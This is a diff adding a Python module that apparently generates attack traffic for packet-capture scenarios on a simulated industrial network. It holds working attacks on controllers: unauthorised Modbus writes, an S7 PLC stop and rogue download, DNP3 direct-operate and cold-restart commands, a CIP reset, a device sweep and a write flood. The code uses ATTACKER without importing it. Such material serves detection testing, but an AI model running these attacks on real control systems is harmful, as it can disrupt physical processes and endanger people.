@@ -1,0 +1,93 @@
+"""The attacks of the scenario captures: each runs in the thread of its actor's address (``in_role``).
+
+Loaded by ``scenarios.py`` as ``scenario_attacks``, after ``scenario_plant`` and ``scenario_routine``.
+"""
+from __future__ import annotations
+
+import asyncio
+import time
+
+import dnp3_generator  # type: ignore[import-not-found]
+from scenario_plant import (  # type: ignore[import-not-found]
+    ATTACKER_LINK, CIP_PLC, ENIP_PORT, HMI, RECIPE_REGISTER, S7_BIT, S7_BYTE, S7_WORD, SWEEP_PLCS, attempt,
+    dnp3_master, modbus_client, s7_client, s7_write_items,
+)
+from scenario_routine import _dnp3_attempt, hmi_bits  # type: ignore[import-not-found]
+
+def attack_modbus_write() -> None:
+    client = modbus_client(ATTACKER)
+    attempt("attacker fc16", client.write_registers, 1, [4000, 4001, 4002, 4003])
+    attempt("attacker fc5", client.write_coil, 1, True)
+    client.close()
+
+
+def attack_s7_stop_download() -> None:
+    client = s7_client(0, 2)
+    attempt("rogue plc_stop", client.plc_stop)
+    attempt("rogue download DB1", client.download, bytearray(b"\x70\x70" + bytes(30)), 1)
+    client.disconnect()
+
+
+def attack_dnp3() -> None:
+    asyncio.run(_attack_dnp3())
+
+
+async def _attack_dnp3() -> None:
+    from dnp3.core.enums import ControlCode, FunctionCode
+    from dnp3.master import CommandBuilder
+
+    runner = dnp3_master(ATTACKER_LINK)
+    await runner.open()
+    try:
+        crob = CommandBuilder().add_crob(0, ControlCode.LATCH_ON)
+        await _dnp3_attempt("attacker direct operate",
+                            runner.request(runner.master.build_direct_operate(crob.build_direct_operate())))
+        cold_restart = dnp3_generator.raw_request(runner.master, FunctionCode.COLD_RESTART)
+        await _dnp3_attempt("attacker cold restart", runner.request(cold_restart))
+    finally:
+        await runner.close()
+
+
+def attack_cip() -> None:
+    from cpppo.server.enip import client
+
+    # Forward Open (and Forward Close on leaving the block) first: cpppo drops the session on Reset.
+    with client.implicit(host=CIP_PLC, port=ENIP_PORT, timeout=3, source_address=ATTACKER):
+        time.sleep(0.5)
+    with client.connector(host=CIP_PLC, port=ENIP_PORT, timeout=3, source_address=ATTACKER) as conn:
+        conn.service_code(code=0x05, path="@1/1", data=[0])  # Reset, identity object class 1 instance 1
+        for _ in range(2):
+            attempt("attacker reset reply", next, conn, None)
+
+
+def attack_identity_sweep() -> None:
+    for plc in SWEEP_PLCS:
+        client = attempt(f"sweep connect {plc}", modbus_client, ATTACKER, plc)
+        if client is not None:
+            attempt(f"sweep fc43/14 {plc}", client.read_device_information, read_code=1, object_id=0)
+            client.close()
+        time.sleep(0.2)
+
+
+
+
+def attack_s7_known_writer_bytes() -> None:
+    """A known writer's multi-item job: a byte over the bits it sets one by one, a bit, a word never written."""
+    client = s7_client()
+    attempt("hmi byte write", s7_write_items, client,
+            [(S7_BYTE, 1, 4, b"\xff"), (S7_BIT, 1, 32, b"\x01"), (S7_WORD, 1, 8, b"\x12\x34")])
+    client.disconnect()
+
+
+def attack_s7_write_flood() -> None:
+    """The HMI's usual two-bit write, 400 times as fast as the PLC answers."""
+    client = s7_client()
+    for i in range(400):
+        attempt("hmi flood write", s7_write_items, client, hmi_bits(5 * i))
+    client.disconnect()
+
+
+def attack_modbus_fc16_new_values() -> None:
+    client = modbus_client(HMI)
+    attempt("hmi fc16 new values", client.write_registers, RECIPE_REGISTER, [7, 0, 250, 9])
+    client.close()
